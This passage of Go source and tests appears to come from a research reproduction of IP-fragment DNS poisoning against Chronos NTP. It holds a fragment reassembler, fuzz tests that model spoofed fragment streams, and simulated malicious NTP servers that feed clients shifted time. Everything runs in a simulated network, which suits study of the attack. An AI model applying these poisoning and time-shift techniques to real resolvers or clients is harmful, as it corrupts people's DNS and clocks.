// payload and any workable MTU.
func TestSplitReassembleIdentityProperty(t *testing.T) {
	f := func(seed int64, sizeRaw uint16, mtuRaw uint16) bool {
		size := int(sizeRaw)%8000 + 1
		mtu := int(mtuRaw)%1500 + MinMTU
		rng := rand.New(rand.NewSource(seed))
		p := make([]byte, size)
		rng.Read(p)
		frags, err := Split(testKey, p, mtu)
		if err != nil {
			return false
		}
		r := NewReassembler(Config{MaxFragments: 4096, MaxDatagrams: 4})
		for i, fr := range frags {
			out, done := r.Insert(t0, fr)
			if done {
				return i == len(frags)-1 && bytes.Equal(out, p)
			}
		}
		return false
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 150}); err != nil {
		t.Error(err)
	}
}

// Property: reassembly is order-independent when fragments do not overlap.
func TestOrderIndependenceProperty(t *testing.T) {
	f := func(seed int64, sizeRaw uint16) bool {
		size := int(sizeRaw)%4000 + 600
		rng := rand.New(rand.NewSource(seed))
		p := make([]byte, size)
		rng.Read(p)
		frags, err := Split(testKey, p, 548)
		if err != nil {
			return false
		}
		rng.Shuffle(len(frags), func(i, j int) { frags[i], frags[j] = frags[j], frags[i] })
		r := NewReassembler(Config{MaxFragments: 4096})
		for _, fr := range frags {
			if out, done := r.Insert(t0, fr); done {
				return bytes.Equal(out, p)
			}
		}
		return false
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 150}); err != nil {
		t.Error(err)
	}
}
