package ipfrag

import (
	"encoding/binary"
	"testing"
	"time"
)

// fuzzEpoch anchors the virtual clock of the fuzzed reassembler.
var fuzzEpoch = time.Date(2020, 6, 1, 0, 0, 0, 0, time.UTC)

// FuzzReassemble drives the fragment cache with an attacker-controlled
// fragment stream decoded from the fuzz input. The reassembler accepts
// raw spoofed fragments by design (that is the attack under study), so it
// must stay memory-safe and bounded for any interleaving of offsets,
// flags, overlaps, flow keys and timestamps.
//
// Input script, repeated until the data runs out:
//
//	byte 0:   flow-key selector (low 2 bits) | policy/limits come from byte 1 of the input
//	byte 1-2: fragment offset in 8-byte units (big endian)
//	byte 3:   flags: bit0 = More, bits 4-7 = time step in seconds
//	byte 4:   payload length
//	...       payload bytes
func FuzzReassemble(f *testing.F) {
	// Seeds: a clean split/reassemble pair, an overlapping spoofed tail,
	// and a tiny-fragment flood.
	whole := func(off int, more bool, payload []byte) []byte {
		var b []byte
		b = append(b, 0)
		var o [2]byte
		binary.BigEndian.PutUint16(o[:], uint16(off/FragmentUnit))
		b = append(b, o[:]...)
		flags := byte(0)
		if more {
			flags |= 1
		}
		b = append(b, flags, byte(len(payload)))
		return append(b, payload...)
	}
	f.Add(append(whole(0, true, make([]byte, 48)), whole(48, false, []byte("tail"))...))
	f.Add(append(append(
		whole(0, true, make([]byte, 16)),
		whole(8, true, []byte{1, 2, 3, 4, 5, 6, 7, 8})...),
		whole(16, false, []byte("x"))...))
	f.Add(whole(0, false, []byte("unfragmented")))

	f.Fuzz(func(t *testing.T, data []byte) {
		if len(data) < 2 {
			return
		}
		cfg := Config{
			Policy:       OverlapPolicy(data[0]%2 + 1),
			MaxDatagrams: int(data[0]%16) + 1,
			MaxFragments: int(data[1]%16) + 1,
			MinFragment:  int(data[1] % 64),
		}
		r := NewReassembler(cfg)
		now := fuzzEpoch
		keys := []FlowKey{
			{Src: [4]byte{198, 41, 0, 4}, Dst: [4]byte{10, 0, 0, 53}, Proto: 17, ID: 7},
			{Src: [4]byte{66, 66, 0, 1}, Dst: [4]byte{10, 0, 0, 53}, Proto: 17, ID: 7},
			{Src: [4]byte{198, 41, 0, 4}, Dst: [4]byte{10, 0, 0, 53}, Proto: 17, ID: 8},
			{Src: [4]byte{198, 41, 0, 4}, Dst: [4]byte{10, 0, 0, 53}, Proto: 1, ID: 7},
		}
		for i := 2; i+5 <= len(data); {
			hdr := data[i : i+5]
			n := int(hdr[4])
			i += 5
			if i+n > len(data) {
				n = len(data) - i
			}
			payload := data[i : i+n]
			i += n
			frag := Fragment{
				Key:    keys[hdr[0]%4],
				Offset: int(binary.BigEndian.Uint16(hdr[1:3])) * FragmentUnit,
				More:   hdr[3]&1 != 0,
				Data:   payload,
			}
			out, done := r.Insert(now, frag)
			if done && len(out) > 65535 {
				t.Fatalf("reassembled datagram exceeds IPv4 limit: %d bytes", len(out))
			}
			if r.Pending() > cfg.MaxDatagrams {
				t.Fatalf("pending partials %d exceed cap %d", r.Pending(), cfg.MaxDatagrams)
			}
			now = now.Add(time.Duration(hdr[3]>>4) * time.Second)
		}
		r.Evict(now.Add(time.Minute))
		if r.Pending() != 0 {
			t.Fatalf("evict left %d partials past the timeout", r.Pending())
		}
	})
}

// FuzzSplitRoundTrip checks the transmit side against the receive side:
// any payload split at any sane MTU must reassemble to the same bytes.
func FuzzSplitRoundTrip(f *testing.F) {
	f.Add([]byte("a dns response that will fragment"), 68)
	f.Add(make([]byte, 2000), 576)
	f.Add([]byte{}, 1500)
	f.Fuzz(func(t *testing.T, payload []byte, mtu int) {
		key := FlowKey{Src: [4]byte{1, 2, 3, 4}, Dst: [4]byte{5, 6, 7, 8}, Proto: 17, ID: 42}
		frags, err := Split(key, payload, mtu)
		if err != nil {
			return
		}
		r := NewReassembler(Config{MaxFragments: len(frags) + 1})
		var out []byte
		done := false
		for _, fr := range frags {
			out, done = r.Insert(fuzzEpoch, fr)
		}
		if !done {
			t.Fatalf("split of %dB at mtu %d did not reassemble", len(payload), mtu)
		}
		if string(out) != string(payload) {
			t.Fatalf("round trip corrupted payload: %d in, %d out", len(payload), len(out))
		}
	})
}
