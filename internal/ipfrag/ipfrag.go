// Package ipfrag models IPv4 fragmentation and reassembly.
//
// It implements the two pieces the defragmentation-poisoning attack of
// Herzberg & Shulman ("Fragmentation Considered Poisonous", CNS 2013) —
// which this paper reuses against Chronos' DNS-based pool generation —
// depends on:
//
//   - Split: fragmenting a transport payload at a path MTU, producing
//     fragments identified by the 16-bit IP Identification field;
//   - Reassembler: the receiver-side fragment cache, keyed by
//     (src, dst, protocol, ID), which will happily combine a genuine first
//     fragment with a *pre-planted spoofed* second fragment carrying the
//     same key.
//
// Overlapping fragments are resolved by a configurable policy (first-wins
// like classic BSD, or last-wins like Linux), because the attack literature
// distinguishes operating systems by exactly this behaviour.
//
// In the reproduction the attack flows through this package end to end:
// attack.DefragPoison plants the spoofed second fragment in the victim
// resolver's Reassembler, the authoritative nameserver's genuine response
// is Split at the forced path MTU (the PMTU-forcing probe of the §II
// study), and the reassembled packet — genuine first fragment, attacker
// payload, still passing the resolver's UDP checksum because the spoofed
// fragment compensates — is what the DNS layer parses. Fragments expire
// from the cache after a TTL, so the attacker's plant must land inside
// the window before the triggered query; the E5 fragmentation study
// measures exactly the population marginals (who fragments, who accepts,
// who is triggerable) that bound this attack's reach. The Split/
// Reassemble pair is fuzz-tested (fuzz_test.go) for round-trip safety on
// arbitrary payloads.
package ipfrag

import (
	"errors"
	"fmt"
	"time"
)

// FragmentUnit is the granularity of IPv4 fragment offsets: offsets are
// expressed in units of 8 bytes on the wire.
const FragmentUnit = 8

// IPHeaderSize is the size of an IPv4 header without options; a link MTU of
// M leaves M − IPHeaderSize bytes for each fragment's payload.
const IPHeaderSize = 20

// MinMTU is the minimum IPv4 MTU (RFC 791). The original fragmentation
// attacks against NTP required paths supporting fragmentation down to this
// value; the paper's measurement study probes resolvers at this size.
const MinMTU = 68

// Errors returned by Split and Reassembler.
var (
	ErrMTUTooSmall   = errors.New("ipfrag: mtu leaves no room for payload")
	ErrBadAlignment  = errors.New("ipfrag: non-final fragment not a multiple of 8 bytes")
	ErrTooManyFrags  = errors.New("ipfrag: fragment count exceeds limit")
	ErrDatagramLimit = errors.New("ipfrag: reassembled datagram exceeds 65535 bytes")
)

// maxDatagram is the largest reassembled datagram IPv4 permits.
const maxDatagram = 65535

// FlowKey identifies a datagram being reassembled: IPv4 reassembly caches
// are keyed by source, destination, protocol and the 16-bit Identification
// field — nothing else. This weak identity is precisely what fragment
// injection exploits.
type FlowKey struct {
	Src   [4]byte
	Dst   [4]byte
	Proto uint8
	ID    uint16
}

// String implements fmt.Stringer for diagnostics.
func (k FlowKey) String() string {
	return fmt.Sprintf("%d.%d.%d.%d>%d.%d.%d.%d/p%d#%d",
		k.Src[0], k.Src[1], k.Src[2], k.Src[3],
		k.Dst[0], k.Dst[1], k.Dst[2], k.Dst[3], k.Proto, k.ID)
}

// Fragment is one IPv4 fragment of a transport-layer payload.
type Fragment struct {
	Key    FlowKey
	Offset int    // byte offset of Data within the original payload; multiple of 8
	More   bool   // the MF (more fragments) flag
	Data   []byte // fragment payload bytes
}

// IsWhole reports whether the fragment is actually an unfragmented datagram
// (offset zero, MF clear).
func (f Fragment) IsWhole() bool { return f.Offset == 0 && !f.More }

// Split fragments payload so that each fragment's payload fits in
// mtu − IPHeaderSize bytes, rounding non-final fragment sizes down to a
// multiple of 8 as IPv4 requires. A payload that already fits is returned
// as a single fragment with MF clear.
func Split(key FlowKey, payload []byte, mtu int) ([]Fragment, error) {
	room := mtu - IPHeaderSize
	if room < FragmentUnit {
		return nil, fmt.Errorf("%w: mtu=%d", ErrMTUTooSmall, mtu)
	}
	if len(payload) > maxDatagram {
		return nil, ErrDatagramLimit
	}
	if len(payload) <= room {
		return []Fragment{{Key: key, Offset: 0, More: false, Data: clone(payload)}}, nil
	}
	chunk := room - room%FragmentUnit
	frags := make([]Fragment, 0, len(payload)/chunk+1)
	for off := 0; off < len(payload); off += chunk {
		end := off + chunk
		more := true
		if end >= len(payload) {
			end = len(payload)
			more = false
		}
		frags = append(frags, Fragment{
			Key:    key,
			Offset: off,
			More:   more,
			Data:   clone(payload[off:end]),
		})
	}
	return frags, nil
}

func clone(b []byte) []byte {
	out := make([]byte, len(b))
	copy(out, b)
	return out
}

// OverlapPolicy selects how a reassembler resolves bytes claimed by more
// than one fragment.
type OverlapPolicy int

const (
	// FirstWins keeps the bytes of the fragment that arrived first
	// (classic BSD reassembly). A pre-planted spoofed fragment therefore
	// beats the genuine one.
	FirstWins OverlapPolicy = iota + 1
	// LastWins lets later fragments overwrite earlier bytes (Linux-style).
	LastWins
)

// String implements fmt.Stringer.
func (p OverlapPolicy) String() string {
	switch p {
	case FirstWins:
		return "first-wins"
	case LastWins:
		return "last-wins"
	default:
		return fmt.Sprintf("OverlapPolicy(%d)", int(p))
	}
}

// Config parameterises a Reassembler.
type Config struct {
	Policy       OverlapPolicy // zero value defaults to FirstWins
	Timeout      time.Duration // fragment lifetime; zero defaults to 30s (RFC 791 suggests 15-30s)
	MaxDatagrams int           // max concurrent partial datagrams; zero defaults to 64
	MaxFragments int           // max fragments per datagram; zero defaults to 64

	// MinFragment drops non-final fragments whose payload is smaller
	// than this (0 accepts everything). It models stacks and middleboxes
	// that reject tiny fragments: the paper's measurement study found
	// 90 % of resolvers accept fragments of some size but only 64 %
	// accept the minimum-MTU (68-byte) fragments this field filters.
	MinFragment int

	// DropFragments rejects all fragmented traffic (the ~10 % of
	// resolvers that accept no fragments at all).
	DropFragments bool
}

func (c Config) withDefaults() Config {
	if c.Policy == 0 {
		c.Policy = FirstWins
	}
	if c.Timeout == 0 {
		c.Timeout = 30 * time.Second
	}
	if c.MaxDatagrams == 0 {
		c.MaxDatagrams = 64
	}
	if c.MaxFragments == 0 {
		c.MaxFragments = 64
	}
	return c
}

// span is a half-open covered byte range [lo, hi).
type span struct{ lo, hi int }

type partial struct {
	buf      []byte
	covered  []span
	spare    []span // double-buffer flipped with covered on each merge
	total    int    // total length, -1 until the final fragment is seen
	frags    int
	firstAt  time.Time
	arrivals int
}

// reset prepares a (possibly recycled) partial for a new datagram. The
// buffer is resliced, not zeroed: a datagram only completes once every
// byte of [0, total) has been copied in from some fragment, so stale bytes
// from a previous occupant can never surface in a returned payload.
func (p *partial) reset(now time.Time) {
	p.buf = p.buf[:0]
	p.covered = p.covered[:0]
	p.total = -1
	p.frags = 0
	p.arrivals = 0
	p.firstAt = now
}

// Reassembler is a receiver-side IPv4 fragment cache.
//
// Insert returns the reassembled payload once every byte of the datagram is
// covered and the total length is known. Reassembly deliberately performs
// no authenticity check beyond the FlowKey — that is the real protocol's
// (absent) security model and the attack surface under study.
//
// Reassembly is allocation-free in steady state: partial-datagram state
// (buffers and coverage spans) is recycled through a free-list when entries
// complete or expire. The payload Insert returns is therefore borrowed —
// valid only until the next call into the Reassembler — which matches how
// simnet's single-threaded event loop consumes it (the receiving handler
// runs to completion before any further packet can arrive).
type Reassembler struct {
	cfg      Config
	pending  map[FlowKey]*partial
	evicting []FlowKey  // scratch, reused across Evict calls
	freed    []*partial // recycled partials ready for reuse
	retired  *partial   // completed partial whose buf backs the last returned payload
	gapbuf   []span     // scratch for FirstWins gap copies
}

// NewReassembler returns a Reassembler with the given configuration.
func NewReassembler(cfg Config) *Reassembler {
	return &Reassembler{
		cfg:     cfg.withDefaults(),
		pending: make(map[FlowKey]*partial),
	}
}

// Pending reports the number of partially reassembled datagrams held.
func (r *Reassembler) Pending() int { return len(r.pending) }

// Insert adds a fragment observed at time now. It returns (payload, true)
// when the fragment completes a datagram; the cache entry is then removed.
// Whole (unfragmented) datagrams pass straight through. The returned
// payload is borrowed: it is valid until the next call into the
// Reassembler, after which its backing buffer may be recycled.
func (r *Reassembler) Insert(now time.Time, f Fragment) ([]byte, bool) {
	if r.retired != nil {
		// The payload returned by the previous completing Insert is out of
		// its borrow window now; recycle its backing state.
		r.freed = append(r.freed, r.retired)
		r.retired = nil
	}
	if f.IsWhole() {
		return f.Data, true
	}
	if r.cfg.DropFragments {
		return nil, false
	}
	if f.More && len(f.Data)%FragmentUnit != 0 {
		return nil, false // malformed: silently dropped, like real stacks
	}
	if r.cfg.MinFragment > 0 && f.More && len(f.Data) < r.cfg.MinFragment {
		return nil, false
	}
	if f.Offset < 0 || f.Offset%FragmentUnit != 0 || f.Offset+len(f.Data) > maxDatagram {
		return nil, false
	}
	r.Evict(now)
	p, ok := r.pending[f.Key]
	if !ok {
		if len(r.pending) >= r.cfg.MaxDatagrams {
			return nil, false // cache full: drop, do not evict live entries
		}
		p = r.newPartial(now)
		r.pending[f.Key] = p
	}
	if p.frags >= r.cfg.MaxFragments {
		return nil, false
	}
	p.frags++
	p.arrivals++

	end := f.Offset + len(f.Data)
	if !f.More {
		if p.total >= 0 && p.total != end {
			// Conflicting total length: keep the policy-preferred one.
			if r.cfg.Policy == LastWins {
				p.total = end
			}
		} else {
			p.total = end
		}
	}
	if end > len(p.buf) {
		// Grow in place: reslice within capacity, one make on real growth.
		// The grown region is deliberately not zeroed — see partial.reset.
		if end <= cap(p.buf) {
			p.buf = p.buf[:end]
		} else {
			c := 2 * cap(p.buf)
			if c < end {
				c = end
			}
			grown := make([]byte, end, c)
			copy(grown, p.buf)
			p.buf = grown
		}
	}
	r.write(p, f.Offset, f.Data)

	if p.total >= 0 && coversAll(p.covered, p.total) {
		out := p.buf[:p.total]
		delete(r.pending, f.Key)
		r.retired = p
		return out, true
	}
	return nil, false
}

// newPartial pops a recycled partial or allocates a fresh one.
func (r *Reassembler) newPartial(now time.Time) *partial {
	var p *partial
	if k := len(r.freed) - 1; k >= 0 {
		p = r.freed[k]
		r.freed[k] = nil
		r.freed = r.freed[:k]
	} else {
		p = &partial{buf: make([]byte, 0, 2048)}
	}
	p.reset(now)
	return p
}

// write copies data into the buffer respecting the overlap policy and
// updates the coverage spans.
func (r *Reassembler) write(p *partial, off int, data []byte) {
	lo, hi := off, off+len(data)
	if r.cfg.Policy == LastWins {
		copy(p.buf[lo:hi], data)
	} else {
		// FirstWins: only fill bytes not yet covered.
		r.gapbuf = appendGaps(r.gapbuf[:0], p.covered, lo, hi)
		for _, gap := range r.gapbuf {
			copy(p.buf[gap.lo:gap.hi], data[gap.lo-lo:gap.hi-lo])
		}
	}
	p.covered, p.spare = mergeSpan(p.spare[:0], p.covered, span{lo, hi}), p.covered
}

// Evict drops partial datagrams older than the configured timeout,
// recycling their state.
func (r *Reassembler) Evict(now time.Time) {
	r.evicting = r.evicting[:0]
	for k, p := range r.pending {
		if now.Sub(p.firstAt) > r.cfg.Timeout {
			r.evicting = append(r.evicting, k)
		}
	}
	for _, k := range r.evicting {
		r.freed = append(r.freed, r.pending[k])
		delete(r.pending, k)
	}
}

// Flush removes the partial datagram for key, reporting whether one existed.
func (r *Reassembler) Flush(key FlowKey) bool {
	_, ok := r.pending[key]
	delete(r.pending, key)
	return ok
}

// HasPending reports whether a partial datagram exists for key — used by
// attack code to confirm a spoofed fragment was planted.
func (r *Reassembler) HasPending(key FlowKey) bool {
	_, ok := r.pending[key]
	return ok
}

// mergeSpan appends the union of sorted disjoint spans and s into out,
// coalescing neighbours, and returns out. The result is sorted by
// construction: spans strictly before s are emitted first, every span
// overlapping or touching s is absorbed into it, and s is emitted before
// the first span strictly after it.
func mergeSpan(out, spans []span, s span) []span {
	inserted := false
	for _, cur := range spans {
		switch {
		case cur.hi < s.lo:
			out = append(out, cur)
		case s.hi < cur.lo:
			if !inserted {
				out = append(out, s)
				inserted = true
			}
			out = append(out, cur)
		default: // overlap or adjacency: absorb
			if cur.lo < s.lo {
				s.lo = cur.lo
			}
			if cur.hi > s.hi {
				s.hi = cur.hi
			}
		}
	}
	if !inserted {
		out = append(out, s)
	}
	return out
}

// appendGaps appends the sub-ranges of [lo, hi) not covered by spans onto
// out and returns it.
func appendGaps(out, spans []span, lo, hi int) []span {
	cur := lo
	for _, s := range spans {
		if s.hi <= cur {
			continue
		}
		if s.lo >= hi {
			break
		}
		if s.lo > cur {
			out = append(out, span{cur, min(s.lo, hi)})
		}
		if s.hi > cur {
			cur = s.hi
		}
		if cur >= hi {
			return out
		}
	}
	if cur < hi {
		out = append(out, span{cur, hi})
	}
	return out
}

func coversAll(spans []span, total int) bool {
	if total == 0 {
		return true
	}
	return len(spans) == 1 && spans[0].lo <= 0 && spans[0].hi >= total
}

func min(a, b int) int {
	if a < b {
		return a
	}
	return b
}
