package ipfrag

import (
	"bytes"
	"testing"
	"time"
)

// TestReassemblySteadyStateAllocFree pins the reassembler's recycling
// guarantee: once its partial free-list and span scratch are warm,
// reassembling a complete datagram from pre-split fragments allocates
// nothing. Receivers reassemble on every delivery, so a regression here
// shows up directly in fleet-scale allocation counts.
func TestReassemblySteadyStateAllocFree(t *testing.T) {
	r := NewReassembler(Config{})
	key := FlowKey{Src: [4]byte{10, 0, 0, 1}, Dst: [4]byte{10, 0, 0, 2}, Proto: 17, ID: 7}
	payload := bytes.Repeat([]byte{0xa5}, 4000)
	frags, err := Split(key, payload, 1500)
	if err != nil {
		t.Fatal(err)
	}
	if len(frags) < 3 {
		t.Fatalf("payload split into %d fragments, want >=3", len(frags))
	}
	now := time.Date(2020, 6, 1, 0, 0, 0, 0, time.UTC)
	round := func() {
		for i, f := range frags {
			out, done := r.Insert(now, f)
			if done != (i == len(frags)-1) {
				t.Fatalf("fragment %d: done=%v", i, done)
			}
			if done && !bytes.Equal(out, payload) {
				t.Fatal("reassembled payload mismatch")
			}
		}
	}
	for i := 0; i < 8; i++ {
		round() // warm the partial free-list and coverage-span scratch
	}
	if allocs := testing.AllocsPerRun(100, round); allocs != 0 {
		t.Fatalf("steady-state reassembly allocates %.1f objects/round, want 0", allocs)
	}
}
