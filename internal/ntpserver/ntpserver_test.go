package ntpserver

import (
	"testing"
	"time"

	"chronosntp/internal/clock"
	"chronosntp/internal/ntpwire"
	"chronosntp/internal/simnet"
)

var (
	srvIP = simnet.IPv4(203, 0, 113, 1)
	cliIP = simnet.IPv4(10, 0, 0, 1)
)

// exchange performs one NTP client exchange and returns the response
// packet plus the client-side T1/T4 readings (client clock = true time).
func exchange(t *testing.T, n *simnet.Network, cli *simnet.Host, server simnet.Addr) (*ntpwire.Packet, time.Time, time.Time) {
	t.Helper()
	port := cli.EphemeralPort()
	var resp *ntpwire.Packet
	var t4 time.Time
	err := cli.Listen(port, func(now time.Time, meta simnet.Meta, payload []byte) {
		p, err := ntpwire.Decode(payload)
		if err == nil && p.Mode == ntpwire.ModeServer {
			resp, t4 = p, now
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	defer cli.Close(port)
	t1 := n.Now()
	req := ntpwire.NewClientPacket(t1)
	if err := cli.SendUDP(port, server, req.Encode()); err != nil {
		t.Fatal(err)
	}
	n.RunFor(time.Second)
	if resp == nil {
		t.Fatal("no NTP response")
	}
	return resp, t1, t4
}

func TestHonestServerOffsetNearZero(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 41})
	sh, _ := n.AddHost(srvIP)
	srv, err := New(sh, Config{})
	if err != nil {
		t.Fatal(err)
	}
	ch, _ := n.AddHost(cliIP)
	resp, t1, t4 := exchange(t, n, ch, srv.Addr())

	offset, delay := ntpwire.OffsetDelay(t1, resp.ReceiveTime.Time(), resp.TransmitTime.Time(), t4)
	if offset < -time.Millisecond || offset > time.Millisecond {
		t.Errorf("offset = %v, want ~0 for perfect clocks", offset)
	}
	if delay <= 0 || delay > 50*time.Millisecond {
		t.Errorf("delay = %v", delay)
	}
	if resp.Stratum != 2 || resp.Mode != ntpwire.ModeServer {
		t.Errorf("resp fields: %+v", resp)
	}
	if srv.Queries() != 1 {
		t.Errorf("queries = %d", srv.Queries())
	}
	if srv.Malicious() {
		t.Error("honest server reports malicious")
	}
}

func TestOriginEchoed(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 42})
	sh, _ := n.AddHost(srvIP)
	srv, _ := New(sh, Config{})
	ch, _ := n.AddHost(cliIP)
	resp, t1, _ := exchange(t, n, ch, srv.Addr())
	if resp.OriginTime != ntpwire.TimestampFromTime(t1) {
		t.Error("origin timestamp not echoed")
	}
}

func TestServerWithClockError(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 43})
	sh, _ := n.AddHost(srvIP)
	srv, err := New(sh, Config{Clock: clock.New(n.Now(), 50*time.Millisecond, 0)})
	if err != nil {
		t.Fatal(err)
	}
	ch, _ := n.AddHost(cliIP)
	resp, t1, t4 := exchange(t, n, ch, srv.Addr())
	offset, _ := ntpwire.OffsetDelay(t1, resp.ReceiveTime.Time(), resp.TransmitTime.Time(), t4)
	if d := offset - 50*time.Millisecond; d < -2*time.Millisecond || d > 2*time.Millisecond {
		t.Errorf("offset = %v, want ~50ms", offset)
	}
}

func TestMaliciousConstantShift(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 44})
	sh, _ := n.AddHost(srvIP)
	srv, err := New(sh, Config{Strategy: ConstantShift(10 * time.Second)})
	if err != nil {
		t.Fatal(err)
	}
	if !srv.Malicious() {
		t.Error("server should report malicious")
	}
	ch, _ := n.AddHost(cliIP)
	resp, t1, t4 := exchange(t, n, ch, srv.Addr())
	offset, _ := ntpwire.OffsetDelay(t1, resp.ReceiveTime.Time(), resp.TransmitTime.Time(), t4)
	if d := offset - 10*time.Second; d < -5*time.Millisecond || d > 5*time.Millisecond {
		t.Errorf("offset = %v, want ~10s", offset)
	}
}

func TestShiftFuncAdaptive(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 45})
	sh, _ := n.AddHost(srvIP)
	start := n.Now()
	// Shift grows by 1ms per elapsed second — an adaptive strategy.
	srv, err := New(sh, Config{Strategy: ShiftFunc(func(now time.Time) time.Duration {
		elapsedSec := int64(now.Sub(start) / time.Second)
		return time.Duration(elapsedSec) * time.Millisecond
	})})
	if err != nil {
		t.Fatal(err)
	}
	ch, _ := n.AddHost(cliIP)
	_, _, _ = exchange(t, n, ch, srv.Addr())
	n.RunFor(10 * time.Second)
	resp, t1, t4 := exchange(t, n, ch, srv.Addr())
	offset, _ := ntpwire.OffsetDelay(t1, resp.ReceiveTime.Time(), resp.TransmitTime.Time(), t4)
	if offset < 8*time.Millisecond {
		t.Errorf("adaptive shift too small: %v", offset)
	}
}

func TestNonClientPacketsIgnored(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 46})
	sh, _ := n.AddHost(srvIP)
	srv, _ := New(sh, Config{})
	ch, _ := n.AddHost(cliIP)
	port := ch.EphemeralPort()
	_ = ch.Listen(port, func(time.Time, simnet.Meta, []byte) {
		t.Error("unexpected response")
	})
	// Mode-4 (server) packet and garbage both ignored.
	p := ntpwire.NewClientPacket(n.Now())
	p.Mode = ntpwire.ModeServer
	_ = ch.SendUDP(port, srv.Addr(), p.Encode())
	_ = ch.SendUDP(port, srv.Addr(), []byte{1, 2, 3})
	n.RunFor(time.Second)
	if srv.Queries() != 0 {
		t.Errorf("queries = %d, want 0", srv.Queries())
	}
}

func TestFarm(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 47})
	servers, ips, err := Farm(n, simnet.IPv4(203, 0, 113, 10), 20, 20*time.Millisecond, 50)
	if err != nil {
		t.Fatal(err)
	}
	if len(servers) != 20 || len(ips) != 20 {
		t.Fatalf("farm size %d/%d", len(servers), len(ips))
	}
	// Addresses are consecutive and unique.
	seen := make(map[simnet.IP]bool)
	for _, ip := range ips {
		if seen[ip] {
			t.Fatal("duplicate farm IP")
		}
		seen[ip] = true
	}
	// Exchange with a couple of them; offsets within the error envelope.
	ch, _ := n.AddHost(cliIP)
	for _, srv := range servers[:3] {
		resp, t1, t4 := exchange(t, n, ch, srv.Addr())
		offset, _ := ntpwire.OffsetDelay(t1, resp.ReceiveTime.Time(), resp.TransmitTime.Time(), t4)
		if offset < -25*time.Millisecond || offset > 25*time.Millisecond {
			t.Errorf("farm server offset %v outside envelope", offset)
		}
	}
}

func TestFarmIPCarry(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 48})
	_, ips, err := Farm(n, simnet.IPv4(203, 0, 113, 250), 10, 0, 0)
	if err != nil {
		t.Fatal(err)
	}
	want := simnet.IPv4(203, 0, 114, 3) // 250+9 carries into the third octet
	if ips[9] != want {
		t.Errorf("ips[9] = %v, want %v", ips[9], want)
	}
}

func TestMaliciousFarmSharedStrategy(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 49})
	servers, _, err := MaliciousFarm(n, simnet.IPv4(66, 0, 0, 1), 5, ConstantShift(time.Second))
	if err != nil {
		t.Fatal(err)
	}
	ch, _ := n.AddHost(cliIP)
	for _, srv := range servers {
		if !srv.Malicious() {
			t.Error("farm server not malicious")
		}
		resp, t1, t4 := exchange(t, n, ch, srv.Addr())
		offset, _ := ntpwire.OffsetDelay(t1, resp.ReceiveTime.Time(), resp.TransmitTime.Time(), t4)
		if d := offset - time.Second; d < -5*time.Millisecond || d > 5*time.Millisecond {
			t.Errorf("offset = %v, want ~1s", offset)
		}
	}
}

func TestSetStrategy(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 50})
	sh, _ := n.AddHost(srvIP)
	srv, _ := New(sh, Config{})
	srv.SetStrategy(ConstantShift(2 * time.Second))
	ch, _ := n.AddHost(cliIP)
	resp, t1, t4 := exchange(t, n, ch, srv.Addr())
	offset, _ := ntpwire.OffsetDelay(t1, resp.ReceiveTime.Time(), resp.TransmitTime.Time(), t4)
	if offset < time.Second {
		t.Errorf("strategy swap ineffective: offset %v", offset)
	}
}

// clockReader is a RequestShiftStrategy that reads the client's clock
// error off the request's TransmitTime and echoes back a lie sized to it.
type clockReader struct {
	observed time.Duration
	extra    time.Duration
}

func (c *clockReader) Shift(time.Time) time.Duration { return 0 }

func (c *clockReader) ShiftForRequest(now time.Time, req *ntpwire.Packet, _ simnet.Addr) time.Duration {
	c.observed = req.TransmitTime.Time().Sub(now)
	return c.observed + c.extra
}

// TestRequestAwareStrategySeesClientClock: a request-aware strategy reads
// the client's error from the request (within one-way latency) and its
// served shift lands in the computed offset.
func TestRequestAwareStrategySeesClientClock(t *testing.T) {
	n := simnet.New(simnet.Config{Seed: 51})
	sh, _ := n.AddHost(srvIP)
	reader := &clockReader{extra: 40 * time.Millisecond}
	if _, err := New(sh, Config{Strategy: reader}); err != nil {
		t.Fatal(err)
	}
	ch, _ := n.AddHost(cliIP)

	// Client whose clock runs 2 s ahead of true time: T1 in the request
	// leaks it.
	cliClk := clock.New(n.Now(), 2*time.Second, 0)
	port := ch.EphemeralPort()
	var resp *ntpwire.Packet
	var t4 time.Time
	_ = ch.Listen(port, func(now time.Time, meta simnet.Meta, payload []byte) {
		if p, err := ntpwire.Decode(payload); err == nil && p.Mode == ntpwire.ModeServer {
			resp, t4 = p, cliClk.Now(now)
		}
	})
	t1 := cliClk.Now(n.Now())
	_ = ch.SendUDP(port, simnet.Addr{IP: srvIP, Port: ntpwire.Port}, ntpwire.NewClientPacket(t1).Encode())
	n.RunFor(time.Second)
	if resp == nil {
		t.Fatal("no response")
	}
	// T1 is read one-way-latency after it was stamped, so the observation
	// undershoots the true error by the (small) one-way delay.
	if d := 2*time.Second - reader.observed; d < 0 || d > 10*time.Millisecond {
		t.Fatalf("strategy observed %v, want client error 2s (−one-way latency)", reader.observed)
	}
	offset, _ := ntpwire.OffsetDelay(t1, resp.ReceiveTime.Time(), resp.TransmitTime.Time(), t4)
	// Served shift = observed + 40ms, client-side offset = shift − 2s ≈
	// 40ms minus the observation undershoot.
	if offset < 30*time.Millisecond || offset > 45*time.Millisecond {
		t.Fatalf("client computed offset %v, want ≈ 40ms lie", offset)
	}
}
