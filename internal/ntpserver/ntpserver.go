// Package ntpserver implements NTPv4 servers for the simulated network:
// honest servers answering from their (slightly imperfect) local clocks,
// and malicious servers applying a time-shift strategy. A pool of these —
// honest majority or attacker-controlled supermajority — is what Chronos
// samples from.
//
// Honest servers stamp receive/transmit timestamps from a clock.Clock
// with per-server offset and drift, so even an all-honest pool shows the
// realistic dispersion Chronos' trimmed mean is designed for. Malicious
// servers answer with a ShiftStrategy-controlled lie; strategies range
// from a fixed offset to RequestShiftStrategy, which adapts per request
// and is how the shiftsim engine's adaptive attackers (greedy, stealth,
// intermittent) drive the packet-fidelity wire mode. Farm spins up many
